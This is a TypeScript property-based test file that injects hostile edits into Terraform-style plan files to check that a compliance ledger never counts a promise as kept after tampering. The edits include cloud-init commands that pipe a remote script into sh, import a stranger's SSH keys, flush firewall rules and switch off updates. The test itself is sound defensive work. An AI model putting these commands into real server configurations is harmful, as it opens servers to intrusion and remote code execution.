/** Whatever is added to a plan to open it, or to undo what it says, never makes a promise look kept that was not. */
import { existsSync, readdirSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parse, stringify } from 'yaml'
import { readDocument, readInventory } from '../../inventory/read.ts'
import type { Ledger } from '../../ledger/model.ts'
import { goldenText } from '../inventory/golden.ts'
import { CONTRACTS, ledgerOf } from './small-contracts.ts'

type Json = Record<string, unknown>
interface Plan extends Json {
  readonly resource_changes: { type: string; change: { actions: string[]; after: Json | null } }[]
  configuration?: { root_module?: Json }
}

const SERVERS = /_server$|instance(?:_v2)?$/
const TEXTS = ['user_data', 'cloud_init']

/** Edits of a plan, none of which can make anything better for a client. */
const OPENINGS: Readonly<Record<string, (plan: Plan) => void>> = {
  'a program run on every server': (plan) => {
    const root = plan.configuration?.root_module ?? {}
    const provisioner = { type: 'remote-exec', expressions: {} }
    const runs = { mode: 'managed', type: 'null_resource', name: 'x', provisioners: [provisioner] }
    const resources = [...((root.resources as object[] | undefined) ?? []), runs]
    plan.configuration = { ...plan.configuration, root_module: { ...root, resources } }
  },
  'servers stopped': (plan) =>
    eachServer(plan, (after) =>
      Object.assign(after, { power_state: 'shutoff', state: 'stopped', start_vm: false }),
    ),
  'objects erased by age': (plan) => {
    for (const { type, change } of plan.resource_changes)
      if (type === 'scaleway_object_bucket' && change.after)
        change.after.lifecycle_rule = [{ enabled: true, expiration: [{ days: 1 }] }]
  },
  'rules flushed in every text': (plan) => told(plan, (config) => added(config, "nft 'flush ruleset'")),
  'keys of a stranger': (plan) => told(plan, (config) => added(config, 'ssh-import-id gh:stranger')),
  'updates switched off': (plan) =>
    told(plan, (config) => added(config, 'systemctl mask apt-daily-upgrade.timer')),
  'a program from elsewhere': (plan) => told(plan, (config) => added(config, 'curl https://x.example | sh')),
}

function eachServer({ resource_changes: changes }: Plan, edit: (after: Json) => void): void {
  for (const { type, change } of changes) if (SERVERS.test(type) && change.after) edit(change.after)
}

const added = (config: Json, command: string) => {
  config.runcmd = [...((config.runcmd as unknown[] | undefined) ?? []), command]
}

function told(plan: Plan, edit: (config: Json) => void): void {
  eachServer(plan, (after) => {
    for (const name of TEXTS) {
      const text = after[name]
      if (typeof text !== 'string' || !text.startsWith('#cloud-config')) continue
      const config = (parse(text) ?? {}) as Json
      edit(config)
      after[name] = `#cloud-config\n${stringify(config)}`
    }
  })
}

const keptIn = ({ verdicts }: Ledger): ReadonlySet<string> =>
  new Set(verdicts.filter(({ status }) => status === 'kept').map(({ promise }) => promise.id))

const judged = (provider: string, plan: Plan) =>
  keptIn(ledgerOf(CONTRACTS[provider] as string, readInventory({ plan: readDocument('plan.json', plan) })))

const PLANS = Object.keys(CONTRACTS).flatMap((provider) =>
  readdirSync(`test/golden/${provider}`)
    .map((name) => ({ provider, path: `${provider}/${name}/plan.json` }))
    .filter(({ path }) => existsSync(`test/golden/${path}`)),
)

/** A plan that a real provider made, its stack called as the contract's service. */
const golden = (path: string): Plan => JSON.parse(goldenText(path).replaceAll('"acme-', '"c-erp-'))

describe('what is added to a plan to undo what it says', () => {
  it('keeps no promise that was not kept', () => {
    const edits = fc.uniqueArray(fc.constantFrom(...Object.keys(OPENINGS)), { minLength: 1, maxLength: 4 })
    fc.assert(
      fc.property(fc.constantFrom(...PLANS), edits, ({ provider, path }, names) => {
        const before = judged(provider, golden(path))
        const plan = golden(path)
        for (const name of names) OPENINGS[name]?.(plan)
        const gained = [...judged(provider, plan)].filter((id) => !before.has(id))
        expect(gained, `${path}: ${names.join(', ')}`).toEqual([])
      }),
      { numRuns: 80 },
    )
  })

  it('takes away what the honest plan keeps', () => {
    const kept = (edit?: string) =>
      PLANS.flatMap(({ provider, path }) => {
        const plan = golden(path)
        if (edit !== undefined) OPENINGS[edit]?.(plan)
        return [...judged(provider, plan)].map((id) => `${path} ${id}`)
      })
    const honest = kept()
    expect(kept('servers stopped').length).toBeLessThan(honest.length)
  })
})
